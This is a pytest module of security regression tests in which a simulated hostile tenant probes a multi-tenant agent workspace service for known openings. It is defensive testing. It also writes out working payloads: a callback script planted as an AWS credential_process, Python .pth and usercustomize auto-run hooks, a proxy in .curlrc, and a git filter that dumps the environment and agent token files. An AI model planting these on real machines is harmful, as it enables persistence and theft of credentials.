"""What one hostile tenant tries at the doors of the service, by its files, its key, its requests and its cookies.

Each visit is an opening that the service once had, tried from outside, as its tenant would, and fails where it is open
again. Two are not everywhere: on one machine all processes are one user's, so none that was taken over is held back by
another's rights; and the images have nothing that sends traces.
"""

from __future__ import annotations

import hashlib
import json
import secrets
import socket
import time
import traceback
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Event, Thread
from typing import Any
from urllib.parse import urlsplit

import pytest
import requests
from playwright.sync_api import Browser

from app.core.access.keyring import CATEGORIES
from app.core.access.tokens import COOKIE
from app.core.redis import keys
from tests.browser import editor_and_sockets, expect_all_closed, launched
from tests.faults.places import Place
from tests.integration import minio
from tests.model_server import Answer, default_rules, when
from tests.otlp import Collector
from tests.waiting import wait_for

MALLORY = "mallory-"
"""What the names of the hostile tenant's users begin with, to which its key is bound."""

KEY = secrets.token_urlsafe(24)
PLENTY = dict.fromkeys(CATEGORIES, "100000/minute")
WAKES = 2
"""Wakes an hour that its key has."""

PATIENCE = 120.0
"""s for what takes a few, on a busy machine."""

THEIRS = "of-the-tenant-9f3c"
"""In every credential and setting that lies in the tenant's home."""

LONG = 3_500
"""Characters of a path that names no session."""

TRIES = 501
"""Calls that would push all kept answers of a session out."""

TOKENS = 5_000
"""The longest answer that is asked for and not waited for."""


class Listener:
    """A server of the tenant's own: the first lines of what anybody asks of it."""

    def __init__(self, host: str) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def handle_one_request(self) -> None:
                asked.append(self.rfile.readline(4096).decode("latin-1").strip())
                self.wfile.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                self.close_connection = True

        self._server = ThreadingHTTPServer((host, 0), Handler)
        self.url = f"http://{host}:{self._server.server_port}"

    @contextmanager
    def listening(self) -> Iterator[Listener]:
        thread = Thread(target=self._server.serve_forever, args=(0.05,), daemon=True)
        thread.start()
        try:
            yield self
        finally:
            self._server.shutdown()
            self._server.server_close()


@dataclass(frozen=True)
class Surroundings:
    """What stands around the service: where its backups are kept, where its traces go, and the tenant's own server.
    `settings` are what the service is told of it."""

    listener: Listener
    collector: Collector
    settings: Mapping[str, str]


@contextmanager
def surroundings(folder: Path, cluster_host: str = "") -> Iterator[Surroundings]:
    """For a service on this machine, or in a cluster, whose pods reach this machine at an address of its own."""
    host = cluster_host or "127.0.0.1"
    bound = {"name": "mallory", "role": "admin", "user_prefix": MALLORY, "limits": PLENTY | {"wake": f"{WAKES}/hour"}}
    told = {
        "API_KEYS": json.dumps([bound | {"sha256": hashlib.sha256(KEY.encode()).hexdigest()}]),
        "BACKUP_ROLE": minio.ROLE if cluster_host else "",
    }
    with ExitStack() as opened:
        store = opened.enter_context(minio.running(folder, host))
        collector = opened.enter_context(Collector())
        listener = opened.enter_context(Listener(host).listening())
        traces = {} if cluster_host else collector.environment
        yield Surroundings(listener, collector, {**told, **traces, **minio.settings(store)})


class Tenant:
    """A user with a workspace that is up. What it does inside, its agent does for it."""

    def __init__(self, place: Place, user: str) -> None:
        self._place = place
        self.uuid = str(self._done("POST", "/session/create", {"user_id": user})["uuid"])

        def up() -> bool:
            return bool(self.done("GET", "/status")["session"]["status"] == "active")

        wait_for(up, f"the session of {user} to be up", seconds=PATIENCE)

    def done(self, method: str, path: str, body: Any = None, **headers: str) -> Any:
        """The answer to a call about its session, which must go well."""
        return self._done(method, f"/session/{self.uuid}{path}", body, **headers)

    def runs(self, command: str) -> str:
        """What its agent's command says."""
        body = {"message": f"run: {command}", "id": secrets.token_hex(8)}
        ended = self.done("POST", "/chat", body, Prefer="wait=60")
        assert ended["status"] == "processed", ended
        return str(ended["pod_response"]["text"]).removeprefix("It said:\n\n")

    def link(self) -> str:
        return str(self.done("POST", "/open")["url"])

    def end(self) -> None:
        self.done("DELETE", "?backup=false", Prefer="respond-async")

    def _done(self, method: str, path: str, body: Any = None, **headers: str) -> Any:
        answer = self._place.call(method, path, body, {"Prefer": "wait=60"} | headers, PATIENCE)
        assert answer.ok, f"{method} {path}: {answer.status_code} {answer.text}"
        return answer.json()


@dataclass(frozen=True)
class Tour:
    """The hostile tenant Mallory, Ada whose neighbour it is, and what is around them."""

    place: Place
    around: Surroundings
    browser: Browser
    mallory: Tenant
    ada: Tenant

    def with_key(self, method: str, path: str, **headers: str) -> requests.Response:
        """The answer to a call with Mallory's key."""
        return self.place.call(method, path, None, {"X-API-Key": KEY, **headers}, PATIENCE)

    def of_gateway(self, method: str, path: str, body: Any = None) -> requests.Response:
        """The answer to a call of Mallory's workspace."""
        url, token = self.place.gateway(self.mallory.uuid)
        held = {"Authorization": f"Bearer {token}"}
        return requests.request(method, url + path, json=body, headers=held, timeout=PATIENCE)


@contextmanager
def touring(place: Place, around: Surroundings) -> Iterator[Tour]:
    """The two tenants, until the block is done."""
    place.model.rules[:] = default_rules()
    with launched() as browser:
        mallory, ada = Tenant(place, f"{MALLORY}1"), Tenant(place, f"{place.prefix}ada")
        try:
            yield Tour(place, around, browser, mallory, ada)
        finally:
            for each in (mallory, ada):
                each.end()


def settings_for_clients_of_the_store_in_a_tenants_home(tour: Tour) -> None:
    """Each leads its client to the tenant, or runs the tenant's program. No backup, restore point or rollback beside
    them reads any; by hand they work."""
    tenant, listener = Tenant(tour.place, f"{MALLORY}2"), tour.around.listener
    tenant.runs(planting(listener.url))
    heard = len(listener.asked)
    assert tenant.done("POST", "/backup")["status"] == "done"
    assert tenant.done("POST", "/restore-points")["status"] == "done"
    point = tenant.done("GET", "")["session"]["restore_point"]["id"]
    tenant.runs("touch later; rm -r ~/.aws")
    assert tenant.done("POST", "/rollback", {"restore_point": point})["session"]["rolled_back"]["restored"]
    assert tenant.runs(f"grep -c {listener.url} ~/.aws/config") == "1"
    assert tenant.runs("cat ~/ran 2>/dev/null; echo nothing else") == "nothing else"
    assert listener.asked[heard:] == []
    assert "by hand" in tenant.runs("sh ~/steal by hand; cat ~/ran")
    assert listener.asked[heard:] == ["GET /stolen HTTP/1.1"]
    assert tenant.done("DELETE", "")["backup"]
    assert listener.asked[heard + 1 :] == []


def planting(url: str) -> str:
    """The command that fills a home with a program which asks this address, and with settings that name either."""
    steal = f"""\
#!/bin/sh
echo ran $* >> ~/ran
python3 -Ic 'import urllib.request as u; u.urlopen("{url}/stolen")' 2>/dev/null
"""
    run = "import os; os.system('sh ' + os.path.expanduser('~/steal') + ' by python')"
    account = {
        "type": "external_account",
        "audience": "//iam.googleapis.com/x",
        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
        "token_url": f"{url}/token",
        "credential_source": {"url": f"{url}/subject"},
    }
    stores = {"s3": {"endpoint_url": url}, "gs": {"endpoint_url": url}, "file": {"target": "/"}}
    files = {
        ".aws/config": f"[default]\ncredential_process = $HOME/steal\nendpoint_url = {url}",
        ".aws/credentials": f"[default]\naws_access_key_id = {THEIRS}\naws_secret_access_key = {THEIRS}",
        ".boto": f"[Credentials]\ns3_host = {url}\ngs_host = {url}",
        ".netrc": f"default login {THEIRS} password {THEIRS}",
        ".curlrc": f"proxy = {url}",
        ".config/fsspec/conf.json": json.dumps(stores),
        ".config/gcloud/application_default_credentials.json": json.dumps(account),
        ".local/lib/python3.11/site-packages/usercustomize.py": run,
        ".local/lib/python3.11/site-packages/steal.pth": run,
        ".pythonrc": run,
    }
    written = [f"mkdir -p $(dirname ~/{name}); cat > ~/{name} << END\n{text}\nEND" for name, text in files.items()]
    return "\n".join([f"cat > ~/steal << 'END'\n{steal}END", "chmod +x ~/steal", *written])


def an_open_connection_after_a_revoke(tour: Tour) -> None:
    """A stranger who is in the workspace takes away all that its home has of the editor's; its own connections end."""
    page, opened = editor_and_sockets(tour.browser, tour.ada.link())
    tour.ada.runs("rm -rf ~/.local/state/workspace; mkdir -p ~/.local/state; chmod a-w ~/.local/state")
    tour.ada.done("POST", "/revoke")
    expect_all_closed(page, opened)
    page.close()
    tour.ada.runs("chmod u+w ~/.local/state")


def answers_that_a_key_has_kept(tour: Tour) -> None:
    """For paths that name no session, and for another's session: Redis keeps none, and what it keeps of that session
    stays."""
    path, once = f"/session/{tour.ada.uuid}/sleep", {"Idempotency-Key": "of-ada", "Prefer": "respond-async"}
    tour.place.call("POST", path, None, once, PATIENCE)
    with tour.place.redis() as client:

        def kept() -> set[str]:
            pattern = keys.IDEMPOTENCY.format(digest="*")
            return {*client.scan_iter(pattern, 1000), *client.scan_iter(keys.KEPT_ANSWERS.format(owner="*"), 1000)}

        before = kept()
        paths = [f"/session/{'x' * (LONG + number)}/sleep" for number in range(20)] + [path] * TRIES
        answers = [tour.with_key("POST", each, **{"Idempotency-Key": f"k{n}"}) for n, each in enumerate(paths)]
        assert {answer.status_code for answer in answers} == {404}
        assert kept() - before == set()
    again = tour.place.call("POST", path, None, once, PATIENCE)
    assert (again.ok, again.headers.get("Idempotency-Replayed")) == (True, "true")
    tour.ada.done("POST", "/wake")


def what_the_models_provider_is_to_fetch(tour: Tour) -> None:
    """Parts of messages and tools that name an address, in every way that servers know: the provider gets none."""
    url = f"{tour.around.listener.url}/fetched"
    image = {"type": "image_url", "image_url": {"url": url}}
    parts: Sequence[Any] = [
        image,
        {"type": "video_url", "video_url": {"url": url}},
        {"type": "audio_url", "audio_url": {"url": url}},
        {"type": "image", "source": {"type": "url", "url": url}},
        {"type": "file", "file": {"file_data": url}},
        {"type": "tool_result", "content": [image]},
        {"type": "text", "text": [image]},
        [image],
    ]
    contents = [{"messages": [{"role": "user", "content": [part]}]} for part in parts]
    said = {"messages": [{"role": "user", "content": "hi"}]}
    schema = {"json_schema": {"schema": {"$ref": url}}}
    fields = (
        {"tools": [{"type": "mcp", "server_label": "x", "server_url": url}]},
        {"tool_choice": {"type": "mcp", "server_url": url}},
        {"response_format": {"type": "json_schema", **schema}},
        {"messages": [{"role": "user", "content": image}]},
    )
    before = len(tour.place.model.requests)
    for body in [*contents, *(said | each for each in fields)]:
        answer = tour.of_gateway("POST", "/llm/v1/chat/completions", body)
        assert (answer.status_code, answer.json()["error"]) == (400, "invalid_request"), body
    assert len(tour.place.model.requests) == before
    assert tour.of_gateway("POST", "/llm/v1/chat/completions", said).ok


def a_program_that_a_repository_names(tour: Tour) -> None:
    """git runs it while somebody asks for unsaved work. It has no secret of the workspace's agent."""
    looks = "cat\n(env; cat /run/agent/token; cat /proc/$PPID/environ | tr '\\0' '\\n'; echo looked) >seen 2>&1\n"
    steps = [
        "git init -q",
        "echo old >changed",
        "git add changed",
        "echo new >changed",
        "echo 'changed filter=looking' >.gitattributes",
        f"cat >looking << 'END'\n{looks}END\ngit config filter.looking.clean 'sh looking'",
    ]
    tour.mallory.runs("\n".join(steps))
    tour.mallory.done("GET", "/risk")
    seen = tour.mallory.runs("cat seen")
    _, token = tour.place.gateway(tour.mallory.uuid)
    assert seen.splitlines()[-1] == "looked"
    assert token not in seen
    assert not any(name in seen for name in ("GATEWAY_", "LLM_", "AGENT_"))


def an_answer_of_the_model_that_is_left(tour: Tour) -> None:
    """Not streamed, and not waited for: it counts as all that was asked for. (That a model without a price is refused
    where there is a budget needs a service without LLM_MODEL: unit/gateway/test_gateway_llm.py.)"""
    go_on = Event()
    tour.place.model.rules.insert(0, when("write much", Answer(text="some words", hold=go_on)))
    spent = tokens_of(tour.mallory)
    asked = len(tour.place.model.requests)
    url, token = tour.place.gateway(tour.mallory.uuid)
    at = urlsplit(url)
    body = json.dumps({"messages": [{"role": "user", "content": "write much"}], "max_tokens": TOKENS}).encode()
    head = f"POST /llm/v1/chat/completions HTTP/1.1\r\nHost: {at.netloc}\r\nAuthorization: Bearer {token}\r\n"
    with socket.create_connection((at.hostname or "", at.port or 80), timeout=PATIENCE) as client:
        client.sendall(f"{head}Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
        tour.place.model.wait_for_requests(asked + 1)
    wait_for(lambda: tokens_of(tour.mallory) >= spent + TOKENS, "the tokens to be counted", seconds=PATIENCE)
    go_on.set()


def tokens_of(tenant: Tenant) -> int:
    """Those that the model wrote for it, as its costs say."""
    return sum(each["completion"] for each in tenant.done("GET", "/cost")["tokens"].values())


def a_rate_limit_that_is_used_up(tour: Tour) -> None:
    """A path that names another kind of key than a session's is no reason to count anew."""
    path = f"/session/{tour.mallory.uuid}"
    statuses = [tour.with_key("POST", f"{path}/wake").status_code for _ in range(WAKES + 1)]
    assert statuses == [200] * WAKES + [429]
    for kind in ("events", "use", "inbox", "prompts", "backups"):
        for _ in range(5):
            assert tour.with_key("GET", f"{path}:{kind}").status_code == 404
    again = [tour.with_key("POST", f"{path}/wake").status_code for _ in range(10)]
    assert again == [429] * 10


def cookies_for_all_workspaces(tour: Tour) -> None:
    """Which a sibling sets, before those of the neighbour: more than 8 KB of them, and such as look like its own."""
    for others in ("; ".join(f"junk{n}={'x' * 1000}" for n in range(10)), f"{COOKIE}=e30.e30.x; \xa0{COOKIE}=x"):
        assert tour.place.visit(tour.ada.link(), others) in ("302 200", "302 302"), others[:40]


def what_a_key_for_some_users_is_told(tour: Tour) -> None:
    """Nothing of the service as a whole, and what it writes in a path is in no log."""
    mark, began = secrets.token_hex(8), time.time()
    assert tour.with_key("GET", "/metrics").status_code == 403
    told = tour.with_key("GET", "/health").json(), requests.get(f"{tour.place.url}/health", timeout=PATIENCE).json()
    assert [(each["redis_memory"], each["warnings"]) for each in told] == [(None, [])] * 2
    longest = f"/session/{tour.mallory.uuid}{mark}{'x' * LONG}"
    assert [tour.with_key("GET", each).status_code for each in (longest, f"{longest}/status")] == [404] * 2
    tour.with_key("GET", f"/session/{tour.mallory.uuid}/status")
    assert not [line for _, line in tour.place.lines(tour.mallory.uuid, began) if mark in line]


def whose_calls_are_traced(tour: Tour) -> None:
    """Those of a caller with a key, when it asks for that; never a stranger's."""
    theirs, ours = secrets.token_hex(16), secrets.token_hex(16)
    wanted = {trace: {"traceparent": f"00-{trace}-{secrets.token_hex(8)}-01"} for trace in (theirs, ours)}
    requests.get(f"{tour.place.url}/sessions", headers=wanted[theirs], timeout=PATIENCE)
    tour.with_key("GET", "/sessions", **wanted[ours])

    def traced() -> set[str]:
        return {span.trace for span in tour.around.collector.spans}

    wait_for(lambda: ours in traced(), "the call with a key to be traced", seconds=PATIENCE)
    assert theirs not in traced()


BEYOND: Mapping[str, Sequence[str]] = {
    "delivery-worker": ("HSET session:{uuid} task x", "DEL session:{uuid}", "PUBLISH /0.celery.pidbox x"),
    "flower": ("PUBLISH /0.celery.pidbox x", "LPUSH wake x", "HGETALL session:{uuid}"),
    "observer": ("GET link:0", "SET lease:{uuid} x", "PUBLISH /0.celery.pidbox x"),
    "gateway": ("HSET session:{uuid} task x", "LPUSH wake x", "GET link:0"),
    "forward-auth": ("HGETALL agent:{uuid}", "LPUSH deliver x"),
}
"""What would be more than a process of the service has to do, as its user of Redis."""


def what_a_process_that_was_taken_over_may_do(tour: Tour) -> None:
    """As Redis and the API server say it: no more than docs/security.md does."""
    # It needs what is only there behind `scripts/cluster/cluster exec`.
    from tests.cluster.product import SYSTEM, kubectl

    with tour.place.redis() as client:
        for user, commands in BEYOND.items():
            for command in commands:
                words = command.format(uuid=tour.ada.uuid).split()
                assert client.execute_command("ACL", "DRYRUN", user, *words) != "OK", f"{user}: {command}"
    account = f"--as=system:serviceaccount:{SYSTEM}:observer"
    rights = [line for line in kubectl("auth", "can-i", "--list", account).splitlines() if line.startswith("pods")]
    assert [line.rpartition("[")[2] for line in rights] == ["list watch]"]


Visit = Callable[[Tour], None]
EVERYWHERE: Sequence[Visit] = (
    settings_for_clients_of_the_store_in_a_tenants_home,
    an_open_connection_after_a_revoke,
    answers_that_a_key_has_kept,
    what_the_models_provider_is_to_fetch,
    a_program_that_a_repository_names,
    an_answer_of_the_model_that_is_left,
    a_rate_limit_that_is_used_up,
    cookies_for_all_workspaces,
    what_a_key_for_some_users_is_told,
)
ON_MACHINE: Sequence[Visit] = (*EVERYWHERE, whose_calls_are_traced)
ON_CLUSTER: Sequence[Visit] = (*EVERYWHERE, what_a_process_that_was_taken_over_may_do)


def each_of(visits: Sequence[Visit]) -> pytest.MarkDecorator:
    """One test for each visit."""
    return pytest.mark.parametrize("visit", visits, ids=[each.__name__ for each in visits])


def run(place: Place, around: Surroundings, visits: Sequence[Visit]) -> list[str]:
    """Make them all, and show it; which doors are open."""
    open_doors = []
    with touring(place, around) as tour:
        for visit in visits:
            try:
                visit(tour)
            except Exception:  # noqa: BLE001 - whatever went wrong, the other doors are tried
                traceback.print_exc()
                open_doors.append(visit.__name__)
            print(f"{'OPEN' if visit.__name__ in open_doors else 'closed'}: {visit.__name__}", flush=True)
    return open_doors
